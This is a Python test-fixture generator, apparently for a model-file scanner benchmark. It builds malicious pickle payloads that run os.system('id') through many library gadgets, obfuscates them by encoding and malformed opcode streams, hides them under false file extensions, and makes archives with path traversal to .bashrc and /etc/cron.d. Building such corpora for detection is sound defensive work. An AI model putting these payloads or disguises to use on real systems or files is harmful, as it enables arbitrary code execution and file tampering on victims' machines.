"""Hostile files of public advisories and techniques, made by opcodes and bytes. They are read, never opened.

HOSTILE has a maker per file name, FOLDERS the files of whole folders. Each must be dangerous or suspicious, but where
EXPECT says what else is right, and why.

    python tests/python/hostile_files.py FOLDER       writes them all; FOLDER/files is for bench/bench_audit.py"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import os
import pathlib
import struct
import sys
import tarfile
import zipfile
import zlib
from typing import Any, Callable

import hostile_detours
import hostile_more
import hostile_native
from hostile_parts import (
    RUN,
    SYSTEM,
    Maker,
    archive,
    call,
    called,
    damaged,
    field,
    flagged,
    gguf,
    js,
    keras,
    layer,
    made,
    named,
    nested,
    new,
    node,
    notebook,
    npy,
    onnx,
    onnx_external,
    onnx_node,
    pickled,
    raw_bytes,
    safetensors,
    saved_model,
    script,
    sequential,
    seven_zip,
    tar,
    text,
    tf_node,
    tflite,
    torch_zip,
    two_names,
    value,
    wrong_checksum,
)


def gadgets() -> dict[str, Maker]:
    """Calls that public advisories name, and their neighbours."""
    rows: list[tuple[Any, ...]] = [
        ("idlelib.pyshell", "ModifiedInterpreter.runcode", None, "x"),
        ("idlelib.autocomplete", "AutoComplete.get_entity", None, "__import__('os')"),
        ("idlelib.calltip", "get_entity", "__import__('os')"),
        ("lib2to3.pgen2.grammar", "Grammar.loads", None, raw_bytes(RUN)),
        ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, None, "'x'"),
        ("cProfile", "runctx", "1", {}, {}),
        ("profile", "Profile.run", None, "1"),
        ("trace", "Trace.run", None, "1"),
        ("timeit", "main", ["1"]),
        ("bdb", "Bdb.run", None, "1"),
        ("doctest", "debug_script", "1"),
        ("code", "InteractiveInterpreter.runcode", None, None),
        ("codeop", "compile_command", "1"),
        ("torch.utils.bottleneck.__main__", "run_autograd_prof", "1", {}),
        ("torch.utils._config_module", "ConfigModule.load_config", None, raw_bytes(RUN)),
        ("torch._dynamo.guards", "GuardBuilder.get", None, "1"),
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pkl", raw_bytes(RUN)),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", "1", {}, {}),
        ("torch.utils.collect_env", "run", "id"),
        ("torch._inductor.codecache", "compile_file", "a", "b", "c"),
        ("torch.utils.cpp_extension", "load_inline", "a", "b"),
        ("torch.ops", "load_library", "x.so"),
        ("torch", "_classes.load_library", "x.so"),
        ("torch.hub", "load", "a/b", "c"),
        ("torch.fx.experimental.unification.multipledispatch.core", "dispatch", "x"),
        ("torch.distributed.rpc.internal", "_run_function", None),
        ("torch.onnx.verification", "verify", "x"),
        ("torch.multiprocessing.reductions", "rebuild_storage_filename", None, "/torch_x", "h", 4),
        ("torch.storage", "UntypedStorage.from_file", "/etc/passwd", False, 4),
        ("torch.utils.benchmark.utils.common", "Measurement.merge", []),
        ("torch.testing._internal.common_utils", "shell", ["id"]),
        ("numpy.f2py.crackfortran", "_eval_length", "1", {}),
        ("numpy.testing._private.utils", "runstring", "1", {}),
        ("numpy.ctypeslib", "load_library", "x", "/tmp"),
        ("numpy", "memmap", "/etc/passwd"),
        ("numpy.lib.format", "open_memmap", "/tmp/x", "w+", "f4", (1,)),
        ("numpy", "fromfile", "/etc/passwd"),
        ("numpy", "savetxt", "/tmp/x", [1]),
        ("numpy", "vectorize", SYSTEM),
        ("numpy", "fromfunction", SYSTEM, (1,)),
        ("numpy", "apply_along_axis", SYSTEM, 0, [1]),
        ("numpy", "frompyfunc", SYSTEM, 1, 1),
        ("scipy.io", "loadmat", "x"),
        ("scipy", "LowLevelCallable.from_cython", None, "x"),
        ("scipy.optimize", "fmin", SYSTEM, 1),
        ("scipy.special", "test"),
        ("scipy.sparse", "load_npz", "x"),
        ("sympy.parsing.sympy_parser", "parse_expr", "1"),
        ("sympy", "sympify", "1"),
        ("sympy", "lambdify", "x", "1"),
        ("sympy.core.symbol", "symbols", "x"),
        ("sympy.utilities.autowrap", "autowrap", "x"),
        ("pandas", "read_pickle", "x"),
        ("pandas", "eval", "1"),
        ("pandas", "DataFrame.query", None, "1"),
        ("pandas", "DataFrame.apply", None, SYSTEM),
        ("pandas.io.common", "get_handle", "/tmp/x", "w"),
        ("sklearn.datasets", "fetch_openml", "x"),
        ("sklearn.datasets", "load_files", "/"),
        ("sklearn.utils.fixes", "_open_binary", "os", "x"),
        ("joblib", "load", "x"),
        ("joblib", "Memory", "/tmp/x"),
        ("joblib", "delayed", SYSTEM),
        ("joblib.parallel", "Parallel", 1),
        ("transformers", "AutoModel.from_pretrained", "a/b"),
        ("timm", "create_model", "hf_hub:a/b"),
        ("transformers", "pipeline", "x"),
        ("transformers.dynamic_module_utils", "get_class_in_module", "X", "x.py"),
        ("torchvision.io", "read_file", "/etc/passwd"),
        ("torchvision.datasets.utils", "download_url", "u", "/tmp"),
        ("torchvision.models._api", "get_model", "x"),
        ("torchvision.transforms", "Lambda", SYSTEM),
        ("pty", "spawn", "id"),
        ("uuid", "_get_command_stdout", "id"),
        ("_osx_support", "_read_output", "id"),
        ("_aix_support", "_read_cmd_output", "id"),
        ("ensurepip", "_run_pip", []),
        ("pydoc", "pipepager", "x", "id"),
        ("pydoc", "locate", "x"),
        ("venv", "create", "/tmp/x"),
        ("pkgutil", "resolve_name", "os:system"),
        ("distutils.file_util", "write_file", "/tmp/x", []),
        ("imaplib", "IMAP4_stream", "id"),
        ("test.support.script_helper", "assert_python_ok", "-c", "1"),
        ("asyncio", "create_subprocess_shell", "id"),
        ("logging", "FileHandler", "/tmp/x"),
        ("logging.config", "fileConfig", "x"),
        ("io", "FileIO", "/tmp/x", "w"),
        ("logging.config", "dictConfig", {"version": 1}),
        ("logging.config", "valid_ident", "x"),
        ("_io", "open", "/etc/passwd"),
        ("io", "open_code", "/etc/passwd"),
        ("codecs", "open", "/etc/passwd"),
        ("fileinput", "input", "/etc/passwd"),
        ("linecache", "getlines", "/etc/passwd"),
        ("tokenize", "open", "x"),
        ("smtplib", "SMTP", "h"),
        ("http.client", "HTTPSConnection", "h"),
        ("xmlrpc.client", "ServerProxy", "http://h"),
        ("ssl", "get_server_certificate", ("h", 1)),
        ("socket", "create_connection", ("h", 1)),
        ("ftplib", "FTP", "h"),
        ("poplib", "POP3", "h"),
        ("telnetlib", "Telnet", "h"),
        ("nntplib", "NNTP", "h"),
        ("urllib.robotparser", "x"),
        ("ctypes", "CDLL", "x"),
        ("_ctypes", "dlopen", "x", 1),
        ("ctypes.util", "find_library", "x"),
        ("sqlite3", "connect", "/tmp/x"),
        ("_sqlite3", "connect", "/tmp/x"),
        ("shelve", "open", "/tmp/x"),
        ("dbm.dumb", "open", "/tmp/x", "c"),
        ("mailbox", "mbox", "/tmp/x"),
        ("zipimport", "zipimporter", "x"),
        ("runpy", "run_path", "x"),
        ("imp", "load_source", "x", "y"),
        ("pickle", "_loads", raw_bytes(RUN)),
        ("_pickle", "Unpickler", None),
        ("marshal", "loads", raw_bytes(b"c")),
        ("shutil", "rmtree", "/tmp/x"),
        ("importlib.machinery", "SourceFileLoader", "a", "x.py"),
        ("importlib._bootstrap", "_load", None),
        ("types", "FunctionType", None, {}),
        ("types", "new_class", "x", (), {}, SYSTEM),
        ("atexit", "register", SYSTEM),
        ("weakref", "finalize", None, SYSTEM),
        ("functools", "reduce", SYSTEM, ["id", "id"]),
        ("itertools", "starmap", SYSTEM, [("id",)]),
        ("builtins", "map", SYSTEM, ["id"]),
        ("builtins", "sorted", ["id"], SYSTEM),
        ("builtins", "iter", SYSTEM, "x"),
        ("heapq", "nlargest", 1, ["id"], SYSTEM),
        ("threading", "Timer", 1, SYSTEM, ["id"]),
        ("_thread", "start_new_thread", SYSTEM, ("id",)),
        ("multiprocessing.util", "Finalize", None, SYSTEM),
        ("multiprocessing.managers", "RebuildProxy", None, None, b"}", b"}"),
        ("multiprocessing.connection", "Client", "/x"),
        ("multiprocessing.shared_memory", "SharedMemory", "x", True, 8),
        ("multiprocessing.reduction", "_rebuild_socket", None, 1, 1, 0),
        ("signal", "signal", 14, SYSTEM),
        ("multiprocessing.synchronize", "SemLock._rebuild", 1, 1, 1, "x"),
        ("signal", "raise_signal", 9),
        ("faulthandler", "dump_traceback_later", 1),
        ("os", "kill", 1, 9),
        ("resource", "setrlimit", 0, (1, 1)),
        ("sys", "settrace", SYSTEM),
        ("sys", "setrecursionlimit", 9),
        ("gc", "callbacks.append", SYSTEM),
        ("os", "environ.update", {"LD_PRELOAD": "x"}),
        ("sys", "path.insert", 0, "/tmp"),
        ("sys", "modules.pop", "os"),
        ("builtins", "__dict__.update", {"len": SYSTEM}),
        ("builtins", "help", "x"),
        ("site", "addsitedir", "/tmp"),
        ("webbrowser", "open", "http://x"),
        ("antigravity", "geohash", 1, 2, "x"),
        ("tempfile", "mkstemp"),
        ("tempfile", "NamedTemporaryFile"),
        ("cloudpickle.cloudpickle", "subimport", "os"),
        ("cloudpickle.cloudpickle", "_make_function", None, {}, None, (), None),
        ("dill._dill", "_eval_repr", "1"),
        ("dill._dill", "_import_module", "os.system"),
        ("dill._dill", "_create_filehandle", "x"),
        ("dill", "loads", raw_bytes(RUN)),
        ("jsonpickle.unpickler", "decode", "{}"),
        ("jsonpickle", "decode", "{}"),
        ("yaml", "unsafe_load", "x"),
        ("yaml", "load", "x", named("yaml", "Loader")),
        ("srsly", "pickle_loads", b"N"),
        ("hydra.utils", "instantiate", {"_target_": "os.system"}),
        ("keras.models", "load_model", "x"),
        ("tensorflow", "io.read_file", "x"),
        ("tensorflow.python.ops.script_ops", "py_func", SYSTEM),
        ("pip", "main", ["install", "x"]),
        ("pip._internal.cli.main", "main", ["install", "x"]),
        ("setuptools.sandbox", "run_setup", "x", []),
        ("nltk.data", "load", "x"),
        ("aiohttp", "request", "GET", "x"),
        ("IPython", "embed"),
        ("psutil", "Popen", ["id"]),
        ("jinja2", "Template", "{{ x }}"),
        ("git", "Repo.clone_from", "x"),
        ("subprocess", "list2cmdline", ["id"]),
        ("operator", "methodcaller", "system", "id"),
        ("operator", "itemgetter", "x"),
        ("operator", "call", SYSTEM, "id"),
        ("operator", "attrgetter", "os.system"),
        ("contextlib", "ExitStack.callback", None, SYSTEM),
        ("contextlib", "contextmanager", SYSTEM),
        ("functools", "partial.__call__", SYSTEM),
        ("functools", "cached_property", SYSTEM),
        ("functools", "singledispatch", SYSTEM),
        ("copyreg", "add_extension", "posix", "system", 1),
        ("copyreg", "pickle", named("builtins", "int"), SYSTEM),
        ("copyreg", "__newobj__", named("subprocess", "Popen"), "id"),
        ("copyreg", "__newobj_ex__", named("subprocess", "Popen"), ("id",), {}),
        ("copyreg", "_reduce_ex", None, 2),
        ("collections", "_sys.exit"),
        ("enum", "bltns.eval", "1"),
        ("random", "_os.system", "id"),
        ("torch", "serialization.os.system", "id"),
        ("numpy", "f2py.os.system", "id"),
        ("logging", "os.system", "id"),
        ("torch.nn", "init.warnings.sys.modules.get", "os"),
        ("typing", "get_type_hints", SYSTEM),
        ("typing", "ForwardRef._evaluate", None, {}, {}),
        ("inspect", "getsource", SYSTEM),
        ("inspect", "signature", SYSTEM),
        ("dataclasses", "make_dataclass", "x", ["a"]),
        ("collections", "namedtuple", "x", ["a"]),
        ("dataclasses", "_create_fn", "x", [], ["pass"]),
        ("string", "Formatter.vformat", None, "{0.__class__}", [], {}),
        ("builtins", "str.format", "{0.__class__.__init__}", 1),
        ("builtins", "object.__reduce_ex__", 1, 2),
        ("builtins", "type.__subclasses__", named("builtins", "object")),
        ("builtins", "vars", None),
        ("builtins", "object.__getattribute__", 1, "x"),
        ("builtins", "setattr", named("builtins", "int"), "x", 1),
        ("builtins", "breakpoint"),
        ("builtins", "input", "x"),
        ("builtins", "print", "x"),
        ("builtins", "open", "x"),
        ("builtins", "memoryview", raw_bytes(b"x")),
        ("builtins", "property.__get__", None),
        ("_testcapi", "run_in_subinterp", "1"),
        ("_xxsubinterpreters", "run_string", 1, "1"),
        ("_posixsubprocess", "fork_exec", []),
        ("nt", "system", "id"),
        ("posix", "posix_spawn", "/bin/id", [], {}),
        ("commands", "getoutput", "id"),
        ("__builtin__", "eval", "1"),
        ("os.path", "os.system", "id"),
        ("posixpath", "genericpath.os.system", "id"),
        ("distutils.spawn", "spawn", ["id"]),
    ]
    out: dict[str, Maker] = {}
    for module, name, *arguments in rows:
        out[f"call_{module}.{name}".replace("_", "-")[:90] + ".pkl"] = call(module, name, *arguments)
    return out


def states() -> dict[str, Maker]:
    """No call by name: objects that a class fills, deletes, hashes, compares."""
    handler = {"stream": None, "baseFilename": "/tmp/x", "mode": "w", "delay": True}
    finalizer = new(named("weakref", "finalize"))
    return {
        "popen.pkl": made("subprocess", "Popen", state={"_child_created": True, "pid": 1, "returncode": None}),
        "temporary.pkl": made("tempfile", "TemporaryDirectory", state={"name": "/tmp/x", "_finalizer": finalizer}),
        "closer.pkl": made("tempfile", "_TemporaryFileCloser", state={"name": "/tmp/x", "delete": True}),
        "zip_file.pkl": made("zipfile", "ZipFile", state={"fp": None, "mode": "w", "_didModify": True}),
        "shelf.pkl": made("shelve", "Shelf", state={"dict": {}, "cache": {}, "writeback": True}),
        "wave.pkl": made("wave", "Wave_write", state={"_file": None, "_i_opened_the_file": None}),
        "opener.pkl": made(
            "urllib.request", "URLopener", state={"_URLopener__tempfiles": ["/tmp/x"], "_URLopener__unlink": SYSTEM}
        ),
        "file_handler.pkl": made("logging", "FileHandler", state=handler),
        "thread.pkl": made("threading", "Thread", state={"_target": SYSTEM, "_args": ("id",)}),
        "module_hook.pkl": made(
            "torch.nn.modules.module", "Module", state={"_forward_hooks": {0: SYSTEM}, "training": True}
        ),
        "load_hook.pkl": made("torch.nn.modules.linear", "Linear", state={"_load_state_dict_pre_hooks": {0: SYSTEM}}),
        "graph_module.pkl": lambda: pickled(
            called(
                named("torch.fx.graph_module", "reduce_graph_module"), {"_code": "def forward(self): pass"}, "import os"
            )
        ),
        "package.pkl": lambda: pickled(
            called(named("torch.fx.graph_module", "reduce_package_graph_module"), None, {}, "x")
        ),
        "deploy.pkl": lambda: pickled(
            called(named("torch.fx.graph_module", "reduce_deploy_graph_module"), None, {}, "x")
        ),
        "script_module.pkl": made("torch.jit._script", "RecursiveScriptModule", state={"_c": None}),
        "importer.pkl": made("torch.package.package_importer", "PackageImporter", "/x"),
        "data_source.pkl": made(
            "numpy.lib._datasource", "DataSource", state={"_istmpdest": True, "_destpath": "/tmp/x"}
        ),
        "npz.pkl": made("numpy.lib._npyio_impl", "NpzFile", state={"zip": None, "fid": None}),
        "frozen.pkl": made(
            "scipy.stats._continuous_distns", "norm_gen", state={"moment_type": 0, "_parse_arg_template": "x"}
        ),
        "memory.pkl": made("joblib.memory", "Memory", state={"location": "/tmp/x", "backend": "local"}),
        "memoized.pkl": made("joblib.memory", "MemorizedFunc", state={"func": SYSTEM}),
        "old_wrapper.pkl": made(
            "joblib.numpy_pickle_compat",
            "NDArrayWrapper",
            state={"filename": "../../etc/passwd", "subclass": named("numpy", "ndarray"), "allow_mmap": True},
        ),
        "old_zwrapper.pkl": made(
            "joblib.numpy_pickle_compat",
            "ZNDArrayWrapper",
            state={"filename": "../../x.z", "init_args": (), "state": ()},
        ),
        "transformer.pkl": made(
            "sklearn.preprocessing._function_transformer", "FunctionTransformer", state={"func": SYSTEM}
        ),
        "vectorizer.pkl": made("sklearn.feature_extraction.text", "CountVectorizer", state={"tokenizer": SYSTEM}),
        "pipeline_memory.pkl": made(
            "sklearn.pipeline",
            "Pipeline",
            state={"memory": made("joblib.memory", "Memory", state={"location": "/tmp/x"})()[2:-1], "steps": []},
        ),
        "hash_key.pkl": lambda: pickled(b"}" + new(named("pathlib", "PosixPath"), state={}) + b"Ns"),
        "foreign_key.pkl": lambda: pickled(b"}" + new(named("evil", "Key")) + b"Ns"),
        "foreign_items.pkl": lambda: pickled(new(named("evil", "Map")) + b"(NNu"),
        "foreign_list.pkl": lambda: pickled(new(named("evil", "List")) + b"(NNe"),
        "foreign_set.pkl": lambda: pickled(b"\x8f(" + new(named("evil", "Key")) + b"\x90"),
        "foreign_frozen.pkl": lambda: pickled(b"(" + new(named("evil", "Key")) + b"\x91"),
        "foreign_class.pkl": made("evil", "Class"),
        "only_named.pkl": lambda: pickled(named("evil.module", "thing")),
        "imported.pkl": lambda: pickled(named("antigravity", "webbrowser")),
        "imports_self.pkl": lambda: pickled(named("this", "s")),
        "imports_main.pkl": lambda: pickled(named("pip.__main__", "sys")),
        "imports_idle.pkl": lambda: pickled(named("idlelib.idle", "sys")),
        "named_system.pkl": lambda: pickled(value({"after": SYSTEM})),
        "dict_update.pkl": lambda: pickled(named("os", "environ") + value({"LD_PRELOAD": "x"})[1:]),
        "path_append.pkl": lambda: pickled(named("sys", "path") + b"(" + text("/tmp") + b"e"),
        "class_changed.pkl": lambda: pickled(
            named("collections", "OrderedDict") + b"N" + value({"__init__": SYSTEM}) + b"\x86b"
        ),
        "module_changed.pkl": lambda: pickled(named("builtins", "__spec__") + value({"loader": SYSTEM}) + b"b"),
        "slots_changed.pkl": lambda: pickled(
            new(named("collections", "OrderedDict")) + b"N" + value({"__class__": SYSTEM}) + b"\x86b"
        ),
        "function_state.pkl": lambda: pickled(named("json", "loads") + value({"__globals__": None}) + b"b"),
        "enum_member.pkl": lambda: pickled(called(named("evil", "Color"), 1)),
        "exception.pkl": lambda: pickled(
            called(named("builtins", "OSError"), 1) + value({"__traceback__": SYSTEM}) + b"b"
        ),
        "namespace_hash.pkl": lambda: pickled(b"}" + called(named("functools", "partial"), SYSTEM) + b"Ns"),
        "type_three.pkl": lambda: pickled(called(called(named("builtins", "type"), "X", (), {"__del__": SYSTEM}))),
        "type_call.pkl": lambda: pickled(called(called(named("builtins", "type"), "X", (), {"__new__": SYSTEM}), "id")),
        "meta.pkl": lambda: pickled(called(named("abc", "ABCMeta"), "X", (), {"__hash__": SYSTEM})),
        "newobj_ex.pkl": lambda: pickled(named("subprocess", "Popen") + b")" + value({"args": "id"}) + b"\x92"),
        "defaultdict_key.pkl": lambda: pickled(called(named("collections", "defaultdict"), SYSTEM)),
        "user_dict.pkl": made("collections", "UserDict", state={"data": new(named("evil", "D"))}),
        "chain_map.pkl": lambda: pickled(called(named("collections", "ChainMap"), new(named("evil", "D")))),
        "ordered_from.pkl": lambda: pickled(called(named("collections", "OrderedDict"), new(named("evil", "D")))),
        "counter_from.pkl": lambda: pickled(
            called(named("collections", "Counter"), called(named("builtins", "map"), SYSTEM, ["id"]))
        ),
        "tuple_from.pkl": lambda: pickled(
            called(named("builtins", "tuple"), called(named("builtins", "map"), SYSTEM, ["id"]))
        ),
        "deque_from.pkl": lambda: pickled(
            called(named("collections", "deque"), called(named("itertools", "starmap"), SYSTEM, [("id",)]))
        ),
        "set_from.pkl": lambda: pickled(
            called(named("builtins", "frozenset"), called(named("builtins", "filter"), SYSTEM, ["id"]))
        ),
        "appends_map.pkl": lambda: pickled(
            called(named("collections", "deque")) + b"(" + new(named("evil", "E")) + b"e"
        ),
        "bytes_of.pkl": lambda: pickled(called(named("builtins", "bytearray"), new(named("evil", "E")))),
    }


def opcodes() -> dict[str, Maker]:
    """Streams that readers of opcodes lose their way in."""
    inner = raw_bytes(RUN)
    loads = named("torch.storage", "_load_from_bytes")
    return {
        "inst.pkl": lambda: b"(S'id'\niposix\nsystem\n.",
        "obj.pkl": lambda: b"(cposix\nsystem\nS'id'\no.",
        "persistent.pkl": lambda: b"P" + b"os.system('id')\n.",
        "binary_persistent.pkl": lambda: pickled(value(("module", SYSTEM, "x.py", "import os")) + b"Q"),
        "extension.pkl": lambda: pickled(b"\x82\x01" + value(("id",)) + b"R"),
        "extension4.pkl": lambda: pickled(b"\x84\x01\0\0\0" + value(("id",)) + b"R"),
        "memo_high.pkl": lambda: pickled(SYSTEM + b"r\xff\xff\xff\x7f0" + b"j\xff\xff\xff\x7f" + value(("id",)) + b"R"),
        "memo_text_index.pkl": lambda: b"cposix\nsystem\np4294967296\n0g4294967296\n(S'id'\ntR.",
        "memo_again.pkl": lambda: pickled(
            text("os") + b"q\0" + text("posix") + b"q\0h\0" + text("system") + b"\x93" + value(("id",)) + b"R"
        ),
        "memo_after.pkl": lambda: pickled(
            named("collections", "OrderedDict") + b"q\0" + b"0" + SYSTEM + b"q\0" + b"0h\0" + value(("id",)) + b"R"
        ),
        "memo_parts.pkl": lambda: pickled(
            text("posix") + b"\x94" + text("system") + b"\x94" + b"00h\0h\x01\x93" + value(("id",)) + b"R"
        ),
        "duplicate.pkl": lambda: pickled(SYSTEM + b"2" + value(("id",)) + b"R"),
        "pop_mark.pkl": lambda: pickled(b"(" + called(SYSTEM, "id") + b"1N"),
        "popped.pkl": lambda: pickled(called(SYSTEM, "id") + b"0N"),
        "two.pkl": lambda: pickled(b"N") + RUN,
        "spaces_between.pkl": lambda: pickled(b"N") + b"\n\n  " + RUN,
        "no_stop.pkl": lambda: RUN[:-1],
        "breaks_after.pkl": lambda: RUN[:-1] + b"\xfe\xfe",
        "stack_empty_after.pkl": lambda: RUN[:-1] + b"0000.",
        "frame_lies.pkl": lambda: b"\x80\x04\x95\xff\0\0\0\0\0\0\0" + RUN[2:],
        "frame_short.pkl": lambda: b"\x80\x04\x95\x01\0\0\0\0\0\0\0" + RUN[2:],
        "proto_inside.pkl": lambda: b"\x80\x02N0\x80\x05" + RUN[2:],
        "proto_late.pkl": lambda: b"N0" + RUN,
        "no_proto.pkl": lambda: RUN[2:],
        "crlf.pkl": lambda: b"cposix\nsystem\n(S'id'\r\ntR.",
        "escapes.pkl": lambda: b"(V\\u0070osix\nVsys\\u0074em\n\x93".replace(b"(", b"") + b"(S'\\x69d'\ntR.",
        "long_name.pkl": lambda: pickled(b"X\x05\0\0\0posixX\x06\0\0\0system\x93" + value(("id",)) + b"R"),
        "wide_name.pkl": lambda: pickled(
            b"\x8d\x05" + bytes(7) + b"posix" + text("system") + b"\x93" + value(("id",)) + b"R"
        ),
        "names_by_call.pkl": lambda: pickled(
            called(named("builtins", "str"), "posix") + text("system") + b"\x93" + value(("id",)) + b"R"
        ),
        "buffer.pkl": lambda: b"\x80\x05\x97" + SYSTEM + value(("id",)) + b"R.",
        "next_buffer.pkl": lambda: b"\x80\x05" + loads + b"(\x97\x98tR.",
        "recursive.pkl": lambda: pickled(b"]\x94h\0a0" + called(SYSTEM, "id")),
        "deep.pkl": lambda: pickled(b"(" * 20000 + called(SYSTEM, "id") + b"t" * 20000),
        "wide.pkl": lambda: pickled(b"(" + b"N" * 300000 + b"t0" + called(SYSTEM, "id")),
        "nested_hex.pkl": lambda: pickled(called(loads, called(named("builtins", "bytes.fromhex"), RUN.hex()))),
        "nested_unhex.pkl": lambda: pickled(called(loads, called(named("binascii", "unhexlify"), RUN.hex()))),
        "nested_base64.pkl": lambda: pickled(
            called(loads, called(named("base64", "b64decode"), base64.b64encode(RUN).decode()))
        ),
        "nested_zlib.pkl": lambda: pickled(
            called(loads, called(named("zlib", "decompress"), raw_bytes(zlib.compress(RUN))))
        ),
        "nested_codecs.pkl": lambda: pickled(
            called(loads, called(named("_codecs", "decode"), raw_bytes(RUN.hex().encode()), "hex"))
        ),
        "nested_utf16.pkl": lambda: pickled(
            called(loads, called(named("_codecs", "encode"), "cposix\nsystem\n(S'id'\ntR.", "utf-16-le"))
        ),
        "nested_array.pkl": lambda: pickled(called(loads, called(named("builtins", "bytearray"), list(RUN)))),
        "nested_join.pkl": lambda: pickled(
            called(loads, called(named("operator", "add"), raw_bytes(RUN[:9]), raw_bytes(RUN[9:])))
        ),
        "nested_slice.pkl": lambda: pickled(called(loads, called(named("builtins", "reversed"), raw_bytes(RUN[::-1])))),
        "nested_partial.pkl": lambda: pickled(called(called(named("functools", "partial"), loads, inner))),
        "nested_frame.pkl": lambda: pickled(called(named("pandas.compat.pickle_compat", "loads"), inner)),
        "nested_object.pkl": lambda: pickled(
            new(
                named("torch.utils.data.datapipes.datapipe", "_IterDataPipeSerializationWrapper"),
                state={"_datapipe": inner},
            )
        ),
        "nested_io.pkl": lambda: pickled(called(named("torch", "load"), called(named("_io", "BytesIO"), inner))),
        "nested_dtype.pkl": lambda: pickled(
            called(
                named("numpy._core.multiarray", "scalar"),
                called(named("numpy", "dtype"), "O8", False, True)
                + value((3, "|", None, None, None, -1, -1, 63))
                + b"b",
                inner,
            )
        ),
        "rebuild.pkl": lambda: pickled(
            called(named("torch._tensor", "_rebuild_from_type_v2"), SYSTEM, named("torch", "Tensor"), ("id",), {})
        ),
        "rebuild_wrapper.pkl": lambda: pickled(
            called(
                named("torch._utils", "_rebuild_wrapper_subclass"),
                named("evil", "T"),
                None,
                (1,),
                (1,),
                0,
                None,
                None,
                False,
            )
        ),
        "rebuild_parameter_state.pkl": lambda: pickled(
            called(named("torch._utils", "_rebuild_parameter_with_state"), None, True, {}, {"__class__": SYSTEM})
        ),
        "reconstruct.pkl": lambda: pickled(
            called(named("numpy._core.multiarray", "_reconstruct"), named("evil", "A"), (0,), "b")
        ),
        "ufunc.pkl": lambda: pickled(called(named("numpy._core", "_ufunc_reconstruct"), "os", "system")),
        "frombuffer.pkl": lambda: pickled(called(named("numpy._core.numeric", "_frombuffer"), inner, "O", (1,), "C")),
        "generator.pkl": lambda: pickled(called(named("numpy.random._pickle", "__generator_ctor"), "id", SYSTEM)),
        "bit_generator.pkl": lambda: pickled(called(named("numpy.random._pickle", "__bit_generator_ctor"), SYSTEM)),
        "unpickle_method.pkl": lambda: pickled(called(called(named("builtins", "getattr"), named("os", "path"), "os"))),
        "getattr_chain.pkl": lambda: pickled(
            called(called(named("builtins", "getattr"), named("torch", "serialization"), "os"))
        ),
    }


def containers() -> dict[str, Maker]:
    """A pickle in something else, under a name that lies."""
    header = {"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}
    return {
        **{
            f"pickle.{ending}": lambda: RUN
            for ending in (
                "safetensors",
                "json",
                "txt",
                "bin",
                "h5",
                "onnx",
                "png",
                "PT",
                "ckpt",
                "npy",
                "npz",
                "gguf",
                "tflite",
                "keras",
                "md",
                "yaml",
                "pb",
                "jpg",
                "csv",
                "log",
                "dat",
                "unknown",
                "pdparams",
                "pdiparams",
                "th",
                "model",
                "msgpack",
                "joblib",
                "sav",
                "p",
                "weights",
                "tmp",
                "bak",
                "index",
                "py",
                "ipynb",
                "jinja",
                "mlmodel",
                "nemo",
                "mar",
                "7z",
                "zip",
            )
        },
        "noending": lambda: RUN,
        **{
            f"zip.{ending}": lambda: torch_zip()
            for ending in ("safetensors", "h5", "onnx", "png", "txt", "json", "bin", "mlpackage")
        },
        "gz.pkl": lambda: gzip.compress(RUN),
        "zlib.pkl": lambda: zlib.compress(RUN),
        "bz2.pkl": lambda: bz2.compress(RUN),
        "xz.pkl": lambda: lzma.compress(RUN),
        "lzma.pkl": lambda: lzma.compress(RUN, lzma.FORMAT_ALONE),
        "gz_gz_gz.bin": lambda: gzip.compress(gzip.compress(gzip.compress(RUN))),
        "xz_of_zip.bin": lambda: lzma.compress(torch_zip()),
        "tar_xz.tar.xz": lambda: lzma.compress(tar(("a/b.pkl", RUN))),
        "tgz.png": lambda: gzip.compress(tar(("b", RUN))),
        "zip_in_zip.zip": lambda: archive(("a.zip", archive(("b.zip", torch_zip())))),
        "wheel.whl": lambda: archive(("p/w.pkl", RUN)),
        "tar_in_zip.npz": lambda: archive(("a.npy", tar(("b.pkl", RUN)))),
        "zip_bz2.pt": lambda: archive(("m/data.pkl", RUN), method=zipfile.ZIP_BZIP2),
        "zip_lzma.pt": lambda: archive(("m/data.pkl", RUN), method=zipfile.ZIP_LZMA),
        "two_names.pt": two_names,
        "encrypted_flag.pt": lambda: flagged(1),
        "strong_flag.pt": lambda: flagged(64),
        "wrong_checksum.pt": wrong_checksum,
        "prefixed.pt": lambda: b"GIF89a" + bytes(64) + torch_zip(),
        "suffixed.pt": lambda: torch_zip() + bytes(70000),
        "in_comment.pt": lambda: torch_zip(pickled(b"N"))[:-2] + struct.pack("<H", len(RUN)) + RUN,
        "other_folder.pt": lambda: archive(("m/data.pkl", pickled(b"}")), ("m/version", "3"), ("n/data.pkl", RUN)),
        "capital_member.pt": lambda: archive(("m/DATA.PKL", RUN), ("m/data.pkl", pickled(b"}")), ("m/version", "3")),
        "storage_is_pickle.pt": lambda: torch_zip(pickled(b"}"), ("m/data/0", RUN)),
        "traversal.zip": lambda: archive(("../../../home/x/.bashrc", "id")),
        "traversal.nemo": lambda: tar(("../../x/.bashrc", b"id")),
        "link.nemo": lambda: tar(("model_config.yaml", b"a: 1\n"), link="/etc/passwd"),
        "absolute.zip": lambda: archive(("/etc/cron.d/x", "id")),
        "backslash.zip": lambda: archive(("..\\..\\x\\evil.bat", "id")),
        "drive.zip": lambda: archive(("C:\\evil.bat", "id")),
        "seven.7z": seven_zip,
        "seven.pt": seven_zip,
        "rar.pt": lambda: b"Rar!\x1a\x07\x01\0" + RUN,
        "cab.bin": lambda: b"MSCF" + bytes(32) + RUN,
        "zst.pkl": lambda: b"\x28\xb5\x2f\xfd\x20" + bytes([len(RUN)]) + struct.pack("<I", len(RUN) << 3 | 1)[:3] + RUN,
        "tail.safetensors": lambda: safetensors(header, bytes(4)) + torch_zip(),
        "tail.gguf": lambda: gguf(after=torch_zip()),
        "tail.onnx": lambda: onnx(onnx_node("Relu")) + torch_zip(),
        "tail.npy": lambda: npy("'<f4'", bytes(4)) + torch_zip(),
        "tail.png": lambda: b"\x89PNG\r\n\x1a\n" + bytes(64) + torch_zip(),
        "tail.json": lambda: b'{"model_type": "x"}\n' + torch_zip(),
        "legacy.tar": lambda: tar(
            ("pickle", RUN), ("tensors", pickled(b"N")), ("storages", pickled(b"N")), ("sys_info", pickled(b"}"))
        ),
